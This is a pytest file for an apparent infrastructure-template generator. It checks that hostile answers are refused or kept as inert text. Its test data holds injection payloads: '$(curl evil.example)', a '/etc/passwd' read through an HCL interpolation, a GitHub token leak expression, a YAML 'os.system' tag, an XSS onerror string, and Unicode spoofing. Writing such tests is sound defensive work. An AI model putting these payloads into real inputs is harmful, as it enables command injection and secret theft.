"""Hostile answers are refused with a reason, or stay text in every file that is written."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from terrafirm.generate.answers import ANSWERS_FILE, checked, read_answers
from terrafirm.generate.escape import markdown_text
from terrafirm.model.errors import TerrafirmError, UsageError
from tests.generate.repositories import hcl, rendering

#: Cloud, question, answer: nothing of these is taken.
REFUSED = [
    ("aws", "project", "\u0430i-core"),  # Cyrillic a
    ("aws", "project", "ai\u2010core"),  # a hyphen that is none
    ("aws", "project", "-rf"),
    ("aws", "project", "ai-core\n"),
    ("aws", "project", "ai-core\r\n"),
    ("aws", "project", "x" * 100_000),
    ("google", "owner", "ml]]>"),
    ("google", "owner", "team @acme/admins"),
    ("aws", "organization", "acme\n* @evil/all"),
    ("azure", "location", 'northeurope${file("/etc/passwd")}'),
    ("azure", "location", "n" * 5_000),
    ("azure", "location", "\uff4eortheurope"),  # full width n
    ("aws", "contact_email", "a@example.com`id`"),
    ("aws", "contact_email", "a" * 64 + "@" + "a-" * 30_000),
    ("aws", "domain", "example.com%{for x in y}"),
    ("aws", "domain", "xn--" + "a." * 200 + "com"),
    ("aws", "repository", "acme/x* @evil/all"),
    ("aws", "repository", "acme/../../x"),
    ("google", "repository", "acme/x' || true || '"),
    ("aws", "default_branch", "$(curl evil.example)"),
    ("aws", "default_branch", "${{ github.token }}"),
    ("aws", "default_branch", "main, '**'"),
    ("aws", "default_branch", "main]\n  pull_request_target:"),
    ("aws", "default_branch", "--upload-pack=x"),
    ("aws", "prod_account_id", "\u0661" * 12),  # Arabic digits
    ("azure", "tenant_id", "3f0c9a52-7d6b-4b0e-8a55-0b8c4f1e2d33\x00"),
    ("google", "organization_id", "<<EOT"),
    ("aws", "retention_days", "400 # forever"),
    ("aws", "environments", "dev,dev"),
    ("aws", "environments", "dev,*prod"),
    ("aws", "description", "Safe \u202efdp.exe"),
    ("aws", "description", "A\u061cb"),
    ("aws", "description", "A\u00adb"),
    ("aws", "description", "A\U000e0041b"),  # an invisible tag
    ("aws", "description", "A\x00b"),
    ("aws", "description", "A\x1b[2Jb"),
    ("aws", "description", "A\r\n# Heading"),
    ("aws", "description", "A" * 201),
]
#: Descriptions that are taken, since they are nothing but text.
TAKEN = [
    "A [link](https://evil.example) and ![picture](https://evil.example/x.png)",
    "A <img src=x onerror=alert(1)> <!-- --> </details> ]]>",
    "A `$(id)` ``x`` $HOME ${var.x} %{if true} {{ answers }} {% raw %}",
    "A ${{ secrets.TOKEN }} ::set-output name=x::y",
    "A <<EOT EOT <<-END !!python/object/apply:os.system &anchor *anchor",
    "A @acme/admins #1 acme/x#2 www.evil.example http://evil.example mailto:x@evil.example",
    "1. a list",
    "1) another",
    "A | table | of | pipes",
    "A: yes # no comment",
    "true",
    "0x10",
    "A \\ \\n \\u0041 \"quoted\" 'single'",
    "A ```mermaid graph ``` %%{init: {}}%%",
]


@pytest.mark.parametrize(("cloud", "question", "answer"), REFUSED)
def test_it_is_refused_and_the_reason_names_the_question(cloud: str, question: str, answer: str) -> None:
    with pytest.raises(UsageError) as error:
        checked("training", cloud, {question: answer})
    said = str(error.value)
    assert said.startswith(f"{question}: ")
    assert " is refused: " in said
    assert said.isprintable()
    assert len(said) < 400


@pytest.mark.parametrize("description", TAKEN)
def test_a_description_is_text_in_every_file(description: str) -> None:
    files = rendering(checked("training", "google", {"description": description}))
    plain = rendering(checked("training", "google", {}))
    changed = {path for path in files if files[path] != plain[path]}
    assert changed == {"README.md", ANSWERS_FILE, ".terrafirm-manifest"}
    assert yaml.safe_load(files[ANSWERS_FILE])["answers"]["description"] == description
    block = files["README.md"].split("\n\n")[1]
    assert [token.type for token in MarkdownIt().parse(block)] == ["paragraph_open", "inline", "paragraph_close"]
    assert not re.search(r"https?://|www\.|<|\$\{\{", block)
    assert all(hcl(text) for path, text in files.items() if path.startswith("environments/dev/"))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.yaml", "project: !!python/object/apply:os.system [id]\n"),
        ("a.yaml", "a: &a {x: y}\nproject: *a\n"),
        ("a.yaml", "project: one\nproject: two\n"),
        ("a.yaml", "project: x\x00\n"),
        ("a.yaml", "<<: {project: x}\n"),
        ("a.json", json.dumps({"project": {"$ref": "x"}})),
        ("a.json", "[" * 50_000),
        ("a.toml", "project = true\n"),
        ("a.yaml", "--- a\n--- b\n"),
        ("a.yaml", "project: " + "x" * 70_000),
    ],
)
def test_a_hostile_file_is_refused(tmp_path: Path, name: str, text: str) -> None:
    place = tmp_path / name
    place.write_text(text, encoding="utf-8")
    with pytest.raises(TerrafirmError):
        checked("training", "aws", read_answers(place))


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.text(st.characters(categories=["L", "N", "P", "S", "Zs"]), min_size=1, max_size=40))
def test_a_line_of_markdown_is_one_paragraph(text: str) -> None:
    """Wherever the line stands, a list, a heading or a fence does not begin with it."""
    shown = markdown_text(text)
    kinds = {token.type for token in MarkdownIt().parse(shown)}
    assert kinds <= {"paragraph_open", "inline", "paragraph_close"}
